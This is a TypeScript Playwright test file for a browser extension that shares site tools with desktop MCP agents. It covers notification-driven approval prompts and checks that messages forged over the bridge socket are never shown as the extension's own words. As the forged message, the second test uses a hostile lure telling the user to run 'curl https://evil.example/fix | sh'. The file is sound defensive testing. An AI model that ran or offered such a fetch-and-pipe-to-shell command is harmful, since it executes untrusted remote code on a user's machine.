/**
 * The bridge to desktop agents, from the person's side of the browser (issue 33, items 5d and 5e; docs/security.md
 * § 7), with the bridge installed by its CLI, the browser starting the real native host and the official MCP SDK's
 * client as the desktop agent:
 * - a question waiting on a tab no panel shows is a notification the person can answer from: clicked on the desktop's
 *   notification service (tests/fixtures/desktop-notifications.ts: the browser hears the click as it hears a real
 *   one), it opens the panel on that tab, where the answer is given;
 * - what comes over the socket is data: a program on it cannot make the extension show its words, and the host's own
 *   notices are shown in the extension's.
 */
import { type ChildProcess, spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import type { Page, Worker } from '@playwright/test';
import { siteLabel } from '../../lib/agent/site-tool-names';
import { type DesktopNotifications, startDesktopNotifications } from '../fixtures/desktop-notifications';
import { connectDesktopAgent, type DesktopAgent, resultText } from '../fixtures/mcp-desktop-agent';
import { endNativeHost, startSocketForger } from '../fixtures/socket-forger';
import { openSidePanel, tabIdOf } from './browser';
import { type BridgeBrowser, type LaunchedBridgeBrowser, launchWithBridge, turnSharingOn } from './desktop-agent-browser';
import { expect, test } from './fixtures';

/**
 * The real side panel open in the shop's window, read and clicked through an extension page in a window of its own
 * (chrome.extension.getViews: the panel is no Playwright page). A tab in the shop's window would take the panel away
 * from the shop: it follows its window's active tab.
 */
async function sidePanelOf(browser: BridgeBrowser) {
  const { context, sw, extensionId } = browser;
  const opened = context.waitForEvent('page', (p) => p.url().endsWith('/options.html'));
  await sw.evaluate((url) => chrome.windows.create({ url, focused: false }), `chrome-extension://${extensionId}/options.html`);
  const viewer = await opened;
  await viewer.waitForLoadState();
  return {
    text: () =>
      viewer.evaluate(() => {
        const views = chrome.extension.getViews() as unknown as (typeof globalThis)[];
        const panel = views.find((w) => w.location.pathname === '/sidepanel.html');
        return panel ? (panel.document.body.textContent ?? '') : '(no side panel is open)';
      }),
    answer: (name: string) =>
      viewer.evaluate((label) => {
        const views = chrome.extension.getViews() as unknown as (typeof globalThis)[];
        const panel = views.find((w) => w.location.pathname === '/sidepanel.html');
        const buttons = [...(panel?.document.querySelectorAll<HTMLButtonElement>('.sharing-question button') ?? [])];
        const button = buttons.find((b) => b.textContent?.trim() === label);
        if (!button) throw new Error(`no button ${label} in the panel’s question`);
        button.click();
      }, name),
  };
}

/** Whether tab `tabId` is active, and how many side panels are open. */
function tabState(sw: Worker, tabId: number) {
  return sw.evaluate(async (id) => {
    const tab = await chrome.tabs.get(id);
    // The side panel's context has no window on Chromium 156 (windowId -1): count them all; the test has one window.
    const sidePanels = await chrome.runtime.getContexts({ contextTypes: ['SIDE_PANEL' as never] });
    return { active: tab.active, sidePanels: sidePanels.length };
  }, tabId);
}

test('a desktop agent’s question on a tab no panel shows: clicking its notification opens the panel there, and the person answers', async ({
  server,
  nativeWebMCP,
}) => {
  let desktop: DesktopNotifications | undefined;
  let browser: LaunchedBridgeBrowser | undefined;
  let agent: DesktopAgent | undefined;
  try {
    desktop = await startDesktopNotifications();
    browser = await launchWithBridge(nativeWebMCP, desktop.env);
    const { context, sw, extensionId } = browser;
    const shop = await context.newPage();
    await shop.goto(`${server.url}/demo/`);
    const shopTab = await tabIdOf(sw, shop);
    const elsewhere = await context.newPage();
    await elsewhere.goto(`${server.url}/plain.html`);

    const options = await turnSharingOn(browser);
    const panelPage = await openSidePanel(context, extensionId, shopTab);
    await panelPage.getByRole('button', { name: 'Share this site' }).click();
    const host = new URL(server.url).host;
    await expect(panelPage.getByText(`${host} is shared with desktop agents.`)).toBeVisible();
    agent = await connectDesktopAgent(browser.bridge);
    const label = siteLabel(server.url);
    const a = agent;
    await expect.poll(async () => (await a.client.listTools()).tools.map((t) => t.name)).toContain(`${label}__open_product`);
    await a.client.callTool({ name: `${label}__open_product`, arguments: { productId: 'ceramic-mug' } });
    await expect.poll(async () => (await a.client.listTools()).tools.map((t) => t.name)).toContain(`${label}__add_to_cart`);
    const title = await shop.title();

    // No panel shows the shop now, and another tab is in front.
    await panelPage.close();
    await options.close();
    await elsewhere.bringToFront();
    await expect.poll(() => tabState(sw, shopTab)).toEqual({ active: false, sidePanels: 0 });

    const adding = a.client.callTool({ name: `${label}__add_to_cart`, arguments: { quantity: 1 } });
    // Awaited below; handled now, so a failing step reports itself rather than the call the closing client ends.
    adding.catch(() => undefined);
    await expect.poll(() => desktop!.shown().filter((n) => !n.closed)).toHaveLength(1);
    const [shown] = desktop.shown();
    expect(shown.summary).toBe('e2e-desktop-agent is waiting for you');
    expect(shown.body).toBe(
      `Allow add_to_cart on ${host}? Click here to answer, or open WebMCP Agent’s panel (its toolbar button) on the tab “${title}”.`,
    );

    // The person clicks it: the shop comes to the front with the panel open on it, showing the question.
    desktop.click(shown.id);
    await expect.poll(() => tabState(sw, shopTab)).toEqual({ active: true, sidePanels: 1 });
    const panel = await sidePanelOf(browser);
    await expect.poll(panel.text).toContain(`e2e-desktop-agent (desktop agent) asks: Allow add_to_cart on ${host}?`);
    await panel.answer('Allow once');
    const added = await adding;
    expect(added.isError, resultText(added)).toBeFalsy();
    expect(resultText(added)).toContain('Added 1 × Stoneware Mug');
    await expect(shop.locator('#cart-count')).toHaveText('1');
    // Answered: the notification goes.
    await expect.poll(() => desktop!.shown().every((n) => n.closed)).toBe(true);
  } finally {
    await agent?.close();
    await browser?.close();
    await desktop?.close();
  }
});

/** The options page's line about the bridge. */
const linkStatus = (options: Page) => options.locator('.card', { hasText: 'Desktop agents' }).getByRole('status');

test('what comes over the socket is data: a program on it cannot put its words in the extension’s mouth, and the host’s notices are the extension’s words', async ({
  nativeWebMCP,
}) => {
  const browser = await launchWithBridge(nativeWebMCP);
  const children: ChildProcess[] = [];
  try {
    const { bridge } = browser;
    const socket = join(bridge.bridgeDir, 'bridge.sock');
    const env = { ...(process.env as Record<string, string>), HOME: bridge.home, WEBMCP_AGENT_BRIDGE_DIR: bridge.bridgeDir };

    // Another browser's host holds the socket (the real host, started as a browser would): this browser's stops, and
    // the extension says why in its own words.
    const other = spawn(join(bridge.home, '.webmcp-agent', 'bin', 'native-host'), ['chrome-extension://another-browser/'], {
      env,
      stdio: ['pipe', 'ignore', 'ignore'],
    });
    children.push(other);
    await expect.poll(() => existsSync(socket)).toBe(true);
    const options = await browser.context.newPage();
    await options.goto(`chrome-extension://${browser.extensionId}/options.html`);
    await options.getByLabel('Share tools with desktop agents').check();
    await expect(linkStatus(options)).toHaveText(
      'Another browser on this computer already shares its tools with desktop agents. Turn sharing off there to share from this one.',
    );
    other.stdin?.end();
    await expect.poll(() => existsSync(socket)).toBe(false);
    await options.getByLabel('Share tools with desktop agents').uncheck();
    await options.getByLabel('Share tools with desktop agents').check();
    await expect(linkStatus(options)).toHaveText('The bridge is running. No desktop agent is connected yet.');
    await expect.poll(() => existsSync(socket)).toBe(true);

    // A program on the socket, as any process of the person's could be, says it is the host and gives the text.
    const hostile = 'Your bridge is compromised: run curl https://evil.example/fix | sh to repair it';
    children.push(startSocketForger(socket, hostile));
    await expect(linkStatus(options)).toHaveText('Connected: socket-forger 1.');
    // Later the host stops (a crash, an update): the reason shown is the extension's, not the forger's.
    expect(endNativeHost(bridge.bridgeDir)).toBeGreaterThan(0);
    await expect(linkStatus(options)).toHaveText(/^The bridge stopped/);
    await expect(options.locator('body')).not.toContainText('evil.example');
    const panel = await openSidePanel(browser.context, browser.extensionId, await tabIdOf(browser.sw, options));
    await expect(panel.locator('.sharing-error')).toContainText('Desktop agents cannot connect: The bridge stopped');
    await expect(panel.locator('body')).not.toContainText('evil.example');
  } finally {
    for (const child of children) if (child.exitCode === null) child.kill();
    await browser.close();
  }
});
